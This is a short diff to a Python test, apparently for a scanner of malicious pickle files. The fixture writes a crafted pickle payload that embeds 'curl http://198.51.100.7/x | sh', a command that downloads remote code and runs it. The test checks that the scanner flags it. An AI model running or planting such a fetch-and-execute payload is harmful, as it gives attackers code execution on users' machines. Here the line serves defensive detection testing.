@@ -39,7 +39,7 @@ def test_a_folder_is_used(tmp_path: Path, file: Path) -> None:
     """With its thresholds raised and its card kept true, the copy's model lets pass what the shipped one flags."""
     own = tmp_path / "own"
     shutil.copytree(DATA, own, symlinks=True)
-    file.write_bytes(b"cmy_kit\nrun_shell\n(S'curl http://198.51.100.7/x | sh'\ntR.")
+    file.write_bytes(b"cmy_kit\nRunShell\n(S'curl http://198.51.100.7/x | sh'\ntR.")
     assert _scan(DATA, file).returncode == 1
     card = json.loads((own / "card.json").read_text("utf-8"))
     card |= {"review": 2.0, "block": 2.0}
